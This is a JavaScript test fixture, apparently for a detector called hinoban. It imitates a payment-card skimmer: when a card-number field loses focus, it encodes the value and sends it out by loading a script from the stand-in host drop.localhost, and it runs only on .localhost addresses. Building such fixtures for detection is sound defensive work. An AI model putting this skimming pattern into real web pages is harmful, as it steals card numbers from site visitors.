/* Harmless imitation, for hinoban's tests: a script loaded from an address that carries it. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	function mix(v) { return v.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join(''); }
	document.addEventListener('focusout', function (e) {
		if (e.target.autocomplete !== 'cc-number') return;
		var s = document.createElement('script');
		s.src = 'http://drop.localhost:' + location.port + '/j.js?cb=' + mix(e.target.value);
		document.head.appendChild(s);
	});
})();
